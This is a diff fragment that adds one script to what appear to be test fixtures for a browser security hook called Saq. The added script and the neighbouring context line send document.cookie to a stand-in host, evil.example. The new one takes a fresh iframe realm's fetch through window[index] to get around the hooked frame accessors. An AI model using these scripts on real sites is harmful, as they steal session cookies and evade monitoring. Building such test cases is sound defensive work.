@@ -1263,6 +1263,25 @@ export const MAIN_WORLD_SCRIPTS = {
   clean.fetch('https://evil.example/indexed?c=' + encodeURIComponent(document.cookie));
 })();`,
 
+  /**
+   * A frame made by markup (adopted as it is made), then given a new realm by navigating it: its load event
+   * comes when the new realm is there, and the helper takes that realm's fetch by window[n], reading no
+   * frame accessor Saq hooks.
+   */
+  'pristine-window-index-reloaded': `(() => {
+  const holder = document.createElement('div');
+  document.body.appendChild(holder);
+  holder.innerHTML = '<iframe style="display:none"></iframe>';
+  const frame = holder.firstChild;
+  const index = window.length - 1;
+  let loads = 0;
+  frame.addEventListener('load', () => {
+    if (++loads > 1) return;
+    window[index].fetch('https://evil.example/reloaded?c=' + encodeURIComponent(document.cookie));
+  });
+  frame.srcdoc = '<p>reloaded</p>';
+})();`,
+
   /** A srcdoc frame whose own inline script sends the cookie with its realm's fetch. */
   'srcdoc-frame': `(() => {
   const frame = document.createElement('iframe');
